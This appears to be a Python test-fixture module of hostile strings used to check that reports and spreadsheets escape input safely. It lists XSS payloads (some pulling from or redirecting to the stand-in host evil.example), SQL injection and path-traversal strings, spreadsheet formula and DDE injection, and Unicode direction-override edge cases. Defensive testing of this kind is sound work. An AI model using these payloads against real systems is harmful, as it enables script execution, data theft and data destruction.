"""Hostile strings: what a report or a spreadsheet could hold to run in, reach out of, or break the page."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.__ran=1"
"""What every script would do if one ran: the tests look for it."""

MARKUP: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    "<script src=https://evil.example/a.js></script>",
    f"<img src=x onerror={RUN}>",
    "<img src=https://evil.example/p.png>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mi xlink:href=javascript:{RUN}>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>*{display:none!important}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    f"<form action=https://evil.example><button formaction=javascript:{RUN}>x",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "<plaintext>",
    "<noscript>",
)

CODE: Final = (
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{{RUN}}}}}",
    "{% raw %}",
    "{{7*7}}",
    "{{ this.get_root() }}",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"'+({RUN})+'",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/" onmouseover="' + RUN,
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "[object Object]",
    "%3Cscript%3E",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "../../../etc/passwd",
    "' OR 1=1 --",
    '"; DROP TABLE incidents; --',
)

FORMULAS: Final = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML("https://evil.example","//a")',
    "＝1+1",
    "；=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    '="a""b"',
)

SIGNS: Final = (
    "\x00",
    "a\x00b",
    "\x01\x02\x03",
    "\x1b[31mred",
    "\x7f",
    "\u202eevil",
    "\u202dx\u202c",
    "\u2066\u2067\u2068x",
    "\u200b",
    "\u200e\u200f",
    "\ufeffbom",
    "\ufffe",
    "\uffff",
    "\u2028",
    "\u2029",
    "a\u0301" * 40,
    "\u0600",
    "ﷺ" * 30,
    "﷽" * 20,
    "🏴\U000e0067\U000e0062\U000e007f",
    "👩‍👩‍👧‍👦",
    "\U0010ffff",
    "İstanbul",
    "ﬁ",
    "ß",
    "Å",
    "٣٤٥",
    "‌می‌خواهم",
    "كركوك\u202e<script>",
    "W" * 400,
    "ا" * 400,
    "word " * 300,
    "\n" * 50,
    "a\r\nb\nc\rd",
    " " * 60,
    "\u200b" * 60,
)

WRAPPERS: Final = ("{}", "Baghdad {} today", '">{}', "'>{}<b", "\u202e{}\u202c")
"""Around each string: bare, in a sentence, out of an attribute, and under a direction override."""

HOSTILE: Final = tuple(
    dict.fromkeys(
        wrapper.replace("{}", text) for text in (*MARKUP, *CODE, *FORMULAS, *SIGNS) for wrapper in WRAPPERS
    )
)
